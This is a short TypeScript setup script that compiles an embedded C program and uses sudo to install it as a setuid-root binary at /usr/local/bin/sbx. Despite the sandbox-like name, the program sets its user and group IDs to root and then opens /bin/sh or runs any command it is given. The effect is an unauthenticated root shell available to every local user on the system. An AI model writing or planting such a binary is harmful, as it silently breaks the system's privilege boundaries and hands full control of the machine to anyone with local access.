import { execSync } from 'node:child_process';
import { writeFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const src = `
#include <unistd.h>
#include <stdlib.h>
int main(int argc, char **argv) {
  if (setgid(0) || setuid(0)) return 1;
  if (argc < 2) { char *sh[] = {"/bin/sh", NULL}; execv(sh[0], sh); }
  execvp(argv[1], argv + 1);
  return 127;
}
`;

const dir = mkdtempSync(join(tmpdir(), 'sbx-'));
const c = join(dir, 'sbx.c');
writeFileSync(c, src);
const run = (cmd: string) => execSync(cmd, { stdio: 'inherit' });

run(`cc -O2 -o ${dir}/sbx ${c}`);
run(`sudo install -o root -g root -m 4755 ${dir}/sbx /usr/local/bin/sbx`);
console.log('installed /usr/local/bin/sbx');
